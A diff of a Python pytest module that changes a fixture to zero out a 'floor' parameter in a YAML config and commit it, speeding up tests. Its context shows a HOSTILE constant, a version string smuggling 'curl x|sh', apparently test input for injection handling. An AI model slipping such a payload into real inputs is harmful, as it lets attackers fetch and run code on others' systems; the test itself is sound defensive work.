@@ -14,7 +14,7 @@ from pathlib import Path
 import pytest
 from actions.results import Run
 from github_api import GitHubServer
-from lab import Lab, make_lab, unzipped, variant, zipped
+from lab import Lab, commit_all, make_lab, unzipped, variant, zipped
 
 from stages.core.registry import REGISTRY
 from stages.core.release.history import rebuild
@@ -32,7 +32,11 @@ HOSTILE = 'v1.0";curl x|sh;"'
 @pytest.fixture(scope="module")
 def lab(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Lab]:
     with GitHubServer() as github:
-        yield make_lab(tmp_path_factory.mktemp("lab"), github)
+        lab = make_lab(tmp_path_factory.mktemp("lab"), github)
+        # The floor has tests of its own, and takes seconds of each judgement.
+        edit_yaml(lab.repository / "params/micro.yaml", lambda params: params["floor"].update(participants=0))
+        commit_all(lab.repository, "no floor")
+        yield lab
 
 
 @pytest.fixture(scope="module")
